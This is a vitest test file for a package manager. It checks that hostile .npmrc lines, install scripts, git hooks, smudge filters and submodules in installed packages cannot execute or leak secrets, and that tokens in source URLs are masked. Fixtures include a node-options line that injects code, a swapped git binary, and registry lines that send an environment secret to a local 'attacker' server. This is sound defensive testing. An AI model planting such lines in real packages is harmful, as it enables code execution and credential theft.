import { once } from "node:events";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { maskCredentials, PackageManager, parsePackageSource } from "../../src/core/packages/index.ts";
import { SettingsStore } from "../../src/core/settings/index.ts";
import { temporaryDirectory, writeTree } from "../core/support/temporary-directory.ts";
import { git } from "../support/git.ts";

const SECRET = "hidden-in-the-environment";

/** A registry of the attacker's: it notes what reaches it. */
async function hostileRegistry(): Promise<{ url: string; heard: string[] }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.url} ${JSON.stringify(request.headers)}`);
    response.writeHead(404).end("{}");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  onTestFinished(() => void server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
}

function repository(folder: string, files: Record<string, string | object>): string {
  writeTree(folder, files);
  git(folder, "init", "-q", "-b", "main");
  git(folder, "add", "-A");
  if ("run.sh" in files) git(folder, "update-index", "--chmod=+x", "run.sh");
  git(folder, "commit", "-q", "-m", "one");
  return `file://${folder}`;
}

async function setUp() {
  const root = temporaryDirectory();
  const registry = await hostileRegistry();
  // The user's own registry knows nothing: whatever is asked of it fails at once.
  const own = await hostileRegistry();
  writeTree(root, { "project/README.md": "", "home/x": "", "user/.npmrc": `fetch-retries=0\nregistry=${own.url}/\n` });
  const settings = SettingsStore.open(join(root, "project"), join(root, "home"), { projectTrusted: true });
  settings.set("npmCommand", ["npm", `--cache=${root}/cache`, `--userconfig=${root}/user/.npmrc`, "--fetch-retries=0"]);
  const manager = new PackageManager({
    cwd: join(root, "project"),
    agentDir: join(root, "home"),
    settings,
  });
  process.env.TAU_TEST_SECRET = SECRET;
  onTestFinished(() => void delete process.env.TAU_TEST_SECRET);
  return { root, manager, settings, registry, canary: `${root}/ran`, traces: () => readdirSync(root) };
}

type SetUp = Awaited<ReturnType<typeof setUp>>;

/** A line of `.npmrc`, and what it would do. */
const LINES: Record<string, (setup: SetUp) => string> = {
  "another program in place of git": () => "git=./run.sh",
  "scripts switched on": () => "ignore-scripts=false",
  "another shell for scripts, switched on": () => "ignore-scripts=false\nscript-shell=./run.sh",
  "options for node": ({ canary }) =>
    `node-options=--import=data:text/javascript,process.getBuiltinModule('fs').writeFileSync('${canary}','')`,
  "another registry, with a variable of the environment": ({ registry }) =>
    `registry=${registry.url}/\n//${registry.url.slice(7)}/:_authToken=\${TAU_TEST_SECRET}`,
  "another registry for a scope": ({ registry }) =>
    `@evil:registry=${registry.url}/\n//${registry.url.slice(7)}/:_authToken=\${TAU_TEST_SECRET}`,
  "another place to install to": ({ root }) => `prefix=${root}/elsewhere\nglobal=true`,
  "another place for logs and the cache": ({ root }) => `logs-dir=${root}/elsewhere\ncache=${root}/elsewhere`,
};

function hostilePackage(setup: SetUp, line: string): string {
  const { root, canary } = setup;
  const script = { "run.sh": `#!/bin/sh\ntouch ${canary}\nexec git "$@"\n`, ".npmrc": `${line}\n` };
  const scripts = { prepare: `touch ${canary}`, postinstall: `touch ${canary}`, preinstall: `touch ${canary}` };
  const inner = repository(`${root}/inner`, {
    ...script,
    "package.json": { name: "inner", version: "1.0.0", scripts },
  });
  const dependencies = { inner: `git+${inner}` };
  const optionalDependencies = { "@evil/one": "*", "evil-two": "*" };
  const middle = repository(`${root}/middle`, {
    ...script,
    "package.json": { name: "middle", version: "1.0.0", scripts, dependencies, optionalDependencies },
  });
  return repository(`${root}/outer`, {
    ...script,
    "prompts/one.md": "1",
    "package.json": {
      name: "outer",
      version: "1.0.0",
      scripts,
      dependencies: { middle: `git+${middle}` },
      optionalDependencies,
    },
  });
}

describe("a line of .npmrc in a package and in its dependencies counts for nothing", () => {
  test.for(Object.entries(LINES))("%s", { timeout: 60_000 }, async ([, line]) => {
    const setup = await setUp();
    const { manager, registry, canary, traces } = setup;
    const source = hostilePackage(setup, line(setup));
    await manager.installAndPersist(source);
    const folder = manager.getInstalledPath(source, "user") ?? "";
    expect(readdirSync(join(folder, "node_modules")).sort()).toEqual(expect.arrayContaining(["inner", "middle"]));
    expect(existsSync(canary)).toBe(false);
    expect(registry.heard).toEqual([]);
    expect(traces()).not.toContain("elsewhere");
  });

  test("when it is brought up to date, and when it is used once", { timeout: 60_000 }, async () => {
    const setup = await setUp();
    const { manager, root, registry, canary, traces } = setup;
    const lines = Object.values(LINES).map((line) => line(setup));
    const source = hostilePackage(setup, "# none yet");
    await manager.installAndPersist(source);
    writeTree(root, { "outer/.npmrc": lines.join("\n"), "outer/prompts/two.md": "2" });
    git(`${root}/outer`, "add", "-A");
    git(`${root}/outer`, "commit", "-q", "-m", "two");
    await manager.update();
    const once = await manager.resolveExtensionSources([source], { temporary: true });
    expect(once.installFailures).toBeUndefined();
    expect(once.prompts).toHaveLength(2);
    expect({ ran: existsSync(canary), heard: registry.heard, there: traces().includes("elsewhere") }).toEqual({
      ran: false,
      heard: [],
      there: false,
    });
  });
});

test("a repository brings no submodule and its clone runs no hook or filter", async () => {
  const setup = await setUp();
  const { root, manager, canary } = setup;
  const inner = repository(`${root}/inner`, { "a.txt": "a" });
  const outer = repository(`${root}/outer`, { "prompts/one.md": "1", ".gitattributes": "* filter=x\n" });
  git(`${root}/outer`, "submodule", "--quiet", "add", inner, "module");
  git(`${root}/outer`, "config", "filter.x.smudge", `touch ${canary}; cat`);
  writeTree(root, { "template/hooks/post-checkout": `#!/bin/sh\ntouch ${canary}\n` });
  git(`${root}/outer`, "commit", "-q", "-m", "two");
  process.env.GIT_CONFIG_GLOBAL = `${root}/gitconfig`;
  onTestFinished(() => void delete process.env.GIT_CONFIG_GLOBAL);
  writeTree(root, {
    gitconfig: `[init]\n\ttemplateDir = ${root}/template\n[submodule]\n\trecurse = true\n[protocol "file"]\n\tallow = always\n`,
  });
  await manager.installAndPersist(outer);
  const folder = manager.getInstalledPath(outer, "user") ?? "";
  expect(readdirSync(join(folder, "module"))).toEqual([]);
  expect(existsSync(canary)).toBe(false);
});

describe("a token in a source", () => {
  const source = "https://me:s3cr3t-t0ken@127.0.0.1:9/o/r@v1";

  test("is part of a valid source, and not of what the package is called", () => {
    expect(parsePackageSource(source, "/base")).toEqual({
      kind: "git",
      url: "https://me:s3cr3t-t0ken@127.0.0.1:9/o/r",
      host: "127.0.0.1",
      path: "o/r",
      ref: "v1",
    });
    expect(parsePackageSource("https://t0ken@github.com/o/r", "/base")).toMatchObject({
      host: "github.com",
      path: "o/r",
    });
  });

  test("is in no message, event, list or failure; the settings keep it", async () => {
    const { manager, settings, root } = await setUp();
    const events: unknown[] = [];
    manager.setProgressCallback((event) => events.push(event));
    const failure = await manager.installAndPersist(source).catch((error: unknown) => String(error));
    manager.addSourceToSettings(source);
    await settings.flush();
    const update = await manager.update().catch((error: unknown) => String(error));
    const unknown = await manager.update("npm:other").catch((error: unknown) => String(error));
    const resolved = await manager.resolve(async () => "error");
    const shown = JSON.stringify([failure, events, update, unknown, resolved, manager.listConfiguredPackages()]);
    expect(shown).toContain("https://***@127.0.0.1:9/o/r@v1");
    expect(shown).not.toContain("t0ken");
    expect(readFileSync(join(root, "home/settings.json"), "utf8")).toContain(source);
    const [listed] = manager.listConfiguredPackages();
    expect(await manager.removeAndPersist(listed?.source ?? "")).toBe(true);
  });

  test.for([
    "https://me:t0ken@host",
    "https://me:t0/ken@host/x",
    "https://me:t0ken@/x",
    "https://me:t0@ken@host/../..@--x",
    "ssh://me:t0ken@-host/x",
    "git:https://me:t0ken@host/o/-r",
  ])("is not in the refusal of %s", (refused) => {
    const message = (() => {
      try {
        return JSON.stringify(parsePackageSource(refused, "/base"));
      } catch (error) {
        return String(error);
      }
    })();
    expect(message).toMatch(/is no source of a package/);
    expect(message).not.toMatch(/t0|ken/);
  });

  test("is masked in the middle of a text, and the name of an account is not", () => {
    expect(maskCredentials("fatal: unable to access 'https://me:t0ken@host/o/r/': no")).toBe(
      "fatal: unable to access 'https://***@host/o/r/': no",
    );
    expect(maskCredentials("ssh://git@host/o/r https://host/o/r@v1")).toBe("ssh://git@host/o/r https://host/o/r@v1");
  });
});
